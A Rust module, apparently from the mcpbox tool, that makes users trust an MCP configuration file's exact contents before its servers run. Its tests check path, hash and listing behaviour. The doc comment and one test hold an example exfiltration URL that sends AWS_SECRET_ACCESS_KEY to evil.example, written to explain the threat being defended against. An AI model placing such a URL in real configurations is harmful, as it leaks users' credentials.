//! Trust in configuration files, before any of their servers starts.
//!
//! A configuration names programs to run and URLs to send credentials to: a
//! `.mcp.json` in a freshly cloned repository can start anything, and
//! `"url": "https://evil.example/?k=${AWS_SECRET_ACCESS_KEY}"` sends a secret from
//! the environment wherever the repository chose. So the CLI, as Claude Code
//! does for project servers, starts the servers of a configuration file only
//! once the user trusted that file: `mcpbox trust` (or a y/N prompt on a
//! terminal). What is trusted is the file at its path with its exact contents
//! (SHA-256); a changed file, or the same text at another path (where its
//! relative paths name other programs), asks again. Its servers run in its
//! directory (`transport::places`), so a relative program (`python3 run.py`) is
//! the one beside the file that was trusted, wherever mcpbox is started; the
//! listing shown for a decision says where each runs, and what a sandboxed one
//! gets without asking.
//!
//! Trusted without asking:
//! - a missing or empty file, or one that names no server (nothing starts);
//! - a file in the user's own mcpbox configuration directory
//!   ([`default_config_dir`](crate::default_config_dir)), when that directory and
//!   the file belong to the user and no one else can write them (only the user
//!   writes there);
//! - the demo this build of mcpbox ships, byte for byte: the repository's
//!   `.mcp.json` while `examples/demo-server.py`, the program it runs, is also
//!   exactly the one built in (both are compared at every run), so that the
//!   README's first command works as typed. Any other text, or any change to the
//!   demo server, asks.
//!
//! The library itself never asks: an embedder chose its configuration. This
//! module offers the CLI's check to embedders that load files they did not write.
//!
//! Trusted files are kept in `trusted-configs.json` (0600) in the configuration
//! directory, as `{"trusted": [{"path": …, "sha256": …}]}`.

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::bindings::wit;
use crate::describe::{ServerDescription, ServerReach};

use crate::user_files::{Refused, UserDir};

pub(crate) mod error;
pub use error::TrustError;

/// The file in the configuration directory that lists trusted configurations.
const STORE: &str = "trusted-configs.json";
/// The most a trust store may hold, in bytes.
const MAX_STORE: u64 = 4 * 1024 * 1024;

/// The demo configuration and the server it runs, as this build ships them.
const DEMO_CONFIG: &[u8] = include_bytes!(concat!(env!("CARGO_MANIFEST_DIR"), "/../.mcp.json"));
const DEMO_SERVER: &[u8] = include_bytes!(concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../examples/demo-server.py"
));
/// Where the demo configuration expects its server, relative to the
/// configuration's directory (it has no `cwd`, so the server runs there).
const DEMO_SERVER_PATH: &str = "examples/demo-server.py";

/// A configuration file as read for a trust decision: the text a runtime should
/// then be opened with ([`crate::Options::from_config_text`]), so that what
/// runs is what was checked.
#[derive(Debug, Clone)]
pub struct ConfigFile {
    /// The path as given.
    pub path: PathBuf,
    /// Its canonical path (`None` when the file does not exist).
    pub canonical: Option<PathBuf>,
    /// Its contents (empty when the file does not exist).
    pub text: String,
    sha256: [u8; 32],
    /// What it names, once asked ([`servers`](ConfigFile::servers)).
    described: OnceLock<Described>,
}

impl ConfigFile {
    /// Reads `path`, no further than [`crate::MAX_CONFIG_BYTES`] (a larger file
    /// is refused, as [`crate::Options::from_config_file`] refuses it). A missing
    /// file is an empty configuration.
    pub fn read(path: &Path) -> Result<ConfigFile, TrustError> {
        let text = crate::config_file::read_config(path)?;
        let canonical = match std::fs::canonicalize(path) {
            Ok(canonical) => Some(canonical),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound && text.is_empty() => None,
            Err(source) => {
                return Err(TrustError::Read {
                    path: path.to_owned(),
                    source,
                });
            }
        };
        Ok(ConfigFile {
            path: path.to_owned(),
            canonical,
            sha256: Sha256::digest(text.as_bytes()).into(),
            text,
            described: OnceLock::new(),
        })
    }

    /// The same file with other contents: the text read from it again (say by a
    /// watcher), to check before it is applied. The path is resolved again, as
    /// [`read`](ConfigFile::read) does (the file may have been replaced or recreated).
    pub fn with_text(&self, text: String) -> ConfigFile {
        ConfigFile {
            path: self.path.clone(),
            canonical: std::fs::canonicalize(&self.path).ok(),
            sha256: Sha256::digest(text.as_bytes()).into(),
            text,
            described: OnceLock::new(),
        }
    }

    /// The SHA-256 of its contents, in hex.
    pub fn sha256_hex(&self) -> String {
        hex(&self.sha256)
    }

    /// What the configuration names, as the guest reads it (`crate::describe`):
    /// asked of a bare guest instance once, the first time it is needed.
    fn described(&self) -> &Described {
        self.described.get_or_init(|| {
            if self.text.trim().is_empty() {
                return Ok(Ok(Vec::new()));
            }
            let origin = self.path.display().to_string();
            crate::describe::Describer::embedded()
                .and_then(|guest| guest.describe_blocking(&origin, &self.text))
                .map_err(|e| e.to_string())
        })
    }

    /// What the configuration would start, one line per server as configured
    /// (before `${VAR}` resolution) and in the file's order, as the guest reads
    /// it: `name: runs `command args…` in DIR` (where it runs: see
    /// `transport::places`), with its sandbox and every automatic grant when it
    /// has one, or `name: connects to url`; an entry with a problem (it does not
    /// start) as written, with the problem. Empty only when it starts nothing: it
    /// names no server, or the guest refuses it whole (not JSON). When the guest
    /// cannot be asked, one line saying so, never an empty list. Entries holding
    /// values a `serde_json::Value` cannot (`1e999`, nesting deeper than 128
    /// levels) are listed as the guest reads and starts them.
    pub fn servers(&self) -> Vec<String> {
        let servers = match self.described() {
            Ok(Ok(servers)) => servers,
            // Refused whole (not JSON): the guest says where it breaks when it loads.
            Ok(Err(_)) => return Vec::new(),
            Err(e) => {
                return vec![format!(
                    "(servers this check cannot list: {e}; read the file before you trust it)"
                )];
            }
        };
        servers
            .iter()
            .map(|server| {
                let what = match &server.reach {
                    ServerReach::Stdio(stdio) => {
                        let args: Vec<&str> =
                            stdio.args.iter().map(|a| a.configured.as_str()).collect();
                        let cwd = stdio.cwd.as_ref().map(|c| c.configured.as_str());
                        let mut what = format!(
                            "runs `{}` in {}",
                            format!("{} {}", stdio.command.configured, args.join(" ")).trim_end(),
                            self.working_dir(cwd)
                        );
                        if let Some(sandbox) = &stdio.sandbox {
                            what.push_str(&format!(
                                ", sandboxed ({})",
                                self.sandbox_of(&stdio.command, stdio.cwd.as_ref(), sandbox)
                            ));
                        }
                        what
                    }
                    ServerReach::Remote(remote) => {
                        format!("connects to {}", remote.endpoint.url.configured)
                    }
                    ServerReach::Unreadable(entry) => {
                        format!("{} (does not start: {})", entry.written, entry.why)
                    }
                };
                format!("{}: {what}", server.name)
            })
            .collect()
    }

    /// The directory of the file, as its servers see it (`transport::places`).
    fn dir(&self) -> Option<PathBuf> {
        match &self.canonical {
            Some(canonical) => canonical.parent().map(Path::to_path_buf),
            None => std::path::absolute(&self.path)
                .ok()?
                .parent()
                .map(Path::to_path_buf),
        }
    }

    /// Where a server whose entry has `cwd` (as written) runs, for the listing.
    fn working_dir(&self, cwd: Option<&str>) -> String {
        let dir = self.dir().unwrap_or_default();
        match cwd {
            Some(cwd) if cwd.contains("${") || Path::new(cwd).is_absolute() => cwd.to_owned(),
            Some(cwd) => dir.join(cwd).display().to_string(),
            None => dir.display().to_string(),
        }
    }

    /// A stdio entry's `sandbox` in words: its grants as written, then what the
    /// host adds without asking, found as it will be when the server starts (the
    /// program on this environment's `PATH`).
    fn sandbox_of(
        &self,
        command: &wit::Template,
        cwd: Option<&wit::Template>,
        sandbox: &wit::Sandbox,
    ) -> String {
        let list = |items: &[wit::Template]| {
            if items.is_empty() {
                "nothing".to_owned()
            } else {
                let items: Vec<&str> = items.iter().map(|t| t.configured.as_str()).collect();
                items.join(", ")
            }
        };
        let ports = |ports: &[u16]| {
            let ports: Vec<String> = ports.iter().map(u16::to_string).collect();
            format!("[{}]", ports.join(","))
        };
        let network = match &sandbox.network {
            wit::NetworkGrant::None => "false".to_owned(),
            wit::NetworkGrant::All => "true".to_owned(),
            wit::NetworkGrant::Ports(grant) => {
                let mut members = Vec::new();
                if !grant.connect.is_empty() {
                    members.push(format!("\"connect\":{}", ports(&grant.connect)));
                }
                if !grant.bind.is_empty() {
                    members.push(format!("\"bind\":{}", ports(&grant.bind)));
                }
                format!("{{{}}}", members.join(","))
            }
        };
        let mut text = format!(
            "read {}; write {}; network: {network}",
            list(&sandbox.read),
            list(&sandbox.write)
        );
        #[cfg(target_os = "linux")]
        {
            let lookup = |name: &str| std::env::var(name).ok();
            let resolve = |template: &wit::Template, field: &str| {
                crate::transport::endpoint::resolve(template, field, &lookup).ok()
            };
            let env: Vec<(String, String)> = ["PATH", "HOME"]
                .iter()
                .filter_map(|name| lookup(name).map(|v| ((*name).to_owned(), v)))
                .collect();
            let dir = match cwd.map(|c| resolve(c, "cwd")) {
                Some(Some(cwd)) => self.dir().map(|d| d.join(cwd)),
                Some(None) => None,
                None => self.dir(),
            };
            let automatic = resolve(command, "command")
                .map(|command| {
                    crate::transport::sandbox::automatic_grants(&command, &env, dir.as_deref(), &[])
                })
                .unwrap_or_default();
            text.push_str("; ");
            text.push_str(&crate::transport::sandbox::describe_automatic(&automatic));
            if crate::transport::sandbox::runs_npx(&command.configured) {
                text.push_str("; also write: a private npm cache of its own");
            }
        }
        #[cfg(not(target_os = "linux"))]
        let _ = (command, cwd);
        text
    }

    /// The environment variables its `${VAR}` references would hand to servers,
    /// sorted: those of every entry [`servers`](Self::servers) lists, as the
    /// guest finds them (references spelled with escapes, `"\u0024{KEY}"`,
    /// included once decoded).
    pub fn variables(&self) -> Vec<String> {
        match self.described() {
            Ok(Ok(servers)) => crate::describe::variables(servers),
            _ => Vec::new(),
        }
    }
}

/// What `describe-config` said of a file: its entries, `Ok(Err)` when the guest
/// refuses the text whole, `Err` when the guest could not be asked.
type Described = Result<Result<Vec<ServerDescription>, String>, String>;

/// Why a configuration may start its servers.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum Trusted {
    /// It names no server: nothing starts.
    NothingToStart,
    /// It lies in the user's own configuration directory.
    UsersOwn,
    /// It is the demo this build ships, with its server unchanged.
    BundledDemo,
    /// The user trusted this file with these contents.
    Remembered,
}

/// Whether `config` may start its servers without asking; `config_dir` is where
/// trusted files are remembered ([`crate::default_config_dir`]). `Ok(None)`:
/// not trusted (yet).
pub fn check(
    config: &ConfigFile,
    config_dir: Option<&Path>,
) -> Result<Option<Trusted>, TrustError> {
    if config.text.trim().is_empty() {
        return Ok(Some(Trusted::NothingToStart));
    }
    if is_bundled_demo(config) {
        return Ok(Some(Trusted::BundledDemo));
    }
    if let Some(dir) = config_dir {
        if let (Some(canonical), Ok(own)) = (&config.canonical, std::fs::canonicalize(dir))
            && canonical.parent() == Some(own.as_path())
            && let Some(name) = canonical.file_name().and_then(|n| n.to_str())
            && let Ok(user) = UserDir::open(&own)
            && matches!(user.read(name, config.text.len() as u64), Ok(Some(bytes)) if bytes == config.text.as_bytes())
        {
            return Ok(Some(Trusted::UsersOwn));
        }
        // Nothing remembered yet, or nowhere to remember: not trusted by the store.
        if let Ok(store) = Store::open(dir)
            && store.contains(config)
        {
            return Ok(Some(Trusted::Remembered));
        }
    }
    // Last, since only this asks the guest (a bare instance): a file trusted
    // by its bytes, as every `call` of a trusted project is, makes none.
    if config.servers().is_empty() {
        return Ok(Some(Trusted::NothingToStart));
    }
    Ok(None)
}

/// Remembers that the user trusts `config` as it is now, in `config_dir`.
pub fn trust(config: &ConfigFile, config_dir: Option<&Path>) -> Result<(), TrustError> {
    let dir = config_dir.ok_or_else(|| {
        TrustError::Store(
            "there is no configuration directory (set MCPBOX_CONFIG_DIR or HOME)".into(),
        )
    })?;
    let Some(canonical) = &config.canonical else {
        return Ok(()); // A missing file starts nothing.
    };
    let mut store = Store::open(dir)?;
    let path = canonical.to_string_lossy().into_owned();
    store.entries.retain(|e| e["path"] != path.as_str());
    store
        .entries
        .push(serde_json::json!({ "path": path, "sha256": config.sha256_hex() }));
    store.save()
}

fn is_bundled_demo(config: &ConfigFile) -> bool {
    config.text.as_bytes() == DEMO_CONFIG
        && config.dir().is_some_and(|dir| {
            std::fs::read(dir.join(DEMO_SERVER_PATH)).is_ok_and(|server| server == DEMO_SERVER)
        })
}

/// The trusted configurations, as kept in the configuration directory.
struct Store {
    dir: UserDir,
    entries: Vec<Value>,
}

impl Store {
    fn open(dir: &Path) -> Result<Store, TrustError> {
        let refused = |e: Refused| TrustError::Store(e.to_string());
        let dir = UserDir::open(dir).map_err(refused)?;
        let entries = match dir.read(STORE, MAX_STORE).map_err(refused)? {
            None => Vec::new(),
            Some(bytes) => {
                let value: Value = serde_json::from_slice(&bytes).map_err(|e| {
                    TrustError::Store(format!(
                        "{} is not valid JSON ({e}); delete it to start afresh",
                        dir.path().join(STORE).display()
                    ))
                })?;
                value["trusted"].as_array().cloned().unwrap_or_default()
            }
        };
        Ok(Store { dir, entries })
    }

    fn contains(&self, config: &ConfigFile) -> bool {
        let Some(canonical) = &config.canonical else {
            return false;
        };
        let path = canonical.to_string_lossy();
        let sha = config.sha256_hex();
        self.entries
            .iter()
            .any(|e| e["path"] == path.as_ref() && e["sha256"] == sha.as_str())
    }

    fn save(&self) -> Result<(), TrustError> {
        let text = serde_json::to_vec_pretty(&serde_json::json!({ "trusted": self.entries }))
            .map_err(|e| TrustError::Store(e.to_string()))?;
        self.dir
            .write(STORE, &text)
            .map_err(|e| TrustError::Store(e.to_string()))
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn temp(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("mcpbox-trust-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        dir
    }

    #[test]
    fn lists_servers_and_variables_as_configured() {
        let dir = temp("list");
        let path = dir.join("mcp.json");
        std::fs::write(
            &path,
            r#"{"mcpServers": {
                "fs": {"command": "npx", "args": ["-y", "pkg", "${HOME}/p"]},
                "api": {"url": "https://x.example/?k=${AWS_SECRET_ACCESS_KEY}", "headers": {"A": "${TOKEN:-none}"}}
            }}"#,
        )
        .unwrap();
        let config = ConfigFile::read(&path).unwrap();
        let here = std::fs::canonicalize(&dir).unwrap();
        assert_eq!(
            config.servers(),
            [
                format!("fs: runs `npx -y pkg ${{HOME}}/p` in {}", here.display()).as_str(),
                "api: connects to https://x.example/?k=${AWS_SECRET_ACCESS_KEY}"
            ]
        );
        assert_eq!(
            config.variables(),
            ["AWS_SECRET_ACCESS_KEY", "HOME", "TOKEN"]
        );
        std::fs::remove_dir_all(&dir).unwrap();
    }

    /// A value a `serde_json::Value` cannot hold (`1e999`, nesting deeper than 128
    /// levels) made the whole file unreadable to a check of the host's own, which
    /// then took it for one that names no server, while the guest read it and
    /// started its servers. The guest's description lists them as they start.
    #[test]
    fn what_serde_json_cannot_hold_is_still_asked_about() {
        let dir = temp("unholdable");
        let path = dir.join("mcp.json");
        let deep = format!("{}{}", "[".repeat(200), "]".repeat(200));
        std::fs::write(
            &path,
            format!(
                r#"{{"mcpServers": {{
                    "big": {{"command": "run", "x": 1e999}},
                    "deep": {{"url": "https://x.example/", "x": {deep}}}
                }}}}"#
            ),
        )
        .unwrap();
        let config = ConfigFile::read(&path).unwrap();
        assert_eq!(check(&config, Some(&dir.join("config"))).unwrap(), None);
        let servers = config.servers();
        assert_eq!(servers.len(), 2, "{servers:?}");
        assert!(servers[0].starts_with("big: runs `run` in "), "{servers:?}");
        assert_eq!(servers[1], "deep: connects to https://x.example/");
        // Spelled with an escape, a variable is still named.
        std::fs::write(
            &path,
            r#"{"mcpServers": {"a": {"url": "https://x.example/?k=\u0024{KEY}"}}}"#,
        )
        .unwrap();
        assert_eq!(ConfigFile::read(&path).unwrap().variables(), ["KEY"]);
        // An entry that does not load is shown as written, with why.
        std::fs::write(
            &path,
            r#"{"mcpServers": {"a": {"command": "run", "args": [7]}}}"#,
        )
        .unwrap();
        let servers = ConfigFile::read(&path).unwrap().servers();
        assert!(
            servers[0].starts_with(r#"a: {"command": "run", "args": [7]} (does not start: "#)
                && servers[0].contains("args[0]"),
            "{servers:?}"
        );
        // Text that is not JSON starts nothing (the guest refuses it whole).
        std::fs::write(&path, r#"{"mcpServers": {"a": {"command": "run"}"#).unwrap();
        assert!(ConfigFile::read(&path).unwrap().servers().is_empty());
        std::fs::remove_dir_all(&dir).unwrap();
    }

    /// The file is read no further than a configuration may be: a sparse 1 GiB
    /// file is refused at once, as the runtime refuses it.
    #[test]
    fn an_oversized_file_is_not_read_whole() {
        let dir = temp("oversized");
        let path = dir.join("mcp.json");
        std::fs::File::create(&path)
            .unwrap()
            .set_len(1 << 30)
            .unwrap();
        let err = ConfigFile::read(&path).unwrap_err();
        assert!(err.to_string().contains("larger than 16 MiB"), "{err}");
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn trust_is_per_path_and_contents() {
        let dir = temp("store");
        let config_dir = dir.join("config");
        let path = dir.join("mcp.json");
        std::fs::write(&path, r#"{"mcpServers": {"a": {"command": "true"}}}"#).unwrap();
        let config = ConfigFile::read(&path).unwrap();
        assert_eq!(check(&config, Some(&config_dir)).unwrap(), None);
        trust(&config, Some(&config_dir)).unwrap();
        assert_eq!(
            check(&config, Some(&config_dir)).unwrap(),
            Some(Trusted::Remembered)
        );
        // Changed contents ask again.
        std::fs::write(&path, r#"{"mcpServers": {"a": {"command": "false"}}}"#).unwrap();
        let changed = ConfigFile::read(&path).unwrap();
        assert_eq!(check(&changed, Some(&config_dir)).unwrap(), None);
        // The same text elsewhere asks too.
        let copy = dir.join("copy.json");
        std::fs::write(&copy, &config.text).unwrap();
        assert_eq!(
            check(&ConfigFile::read(&copy).unwrap(), Some(&config_dir)).unwrap(),
            None
        );
        // Nothing to start, nothing to trust.
        std::fs::write(&copy, "").unwrap();
        assert_eq!(
            check(&ConfigFile::read(&copy).unwrap(), Some(&config_dir)).unwrap(),
            Some(Trusted::NothingToStart)
        );
        // A file in the user's own directory.
        let own = config_dir.join("servers.json");
        std::fs::write(&own, &config.text).unwrap();
        assert_eq!(
            check(&ConfigFile::read(&own).unwrap(), Some(&config_dir)).unwrap(),
            Some(Trusted::UsersOwn)
        );
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
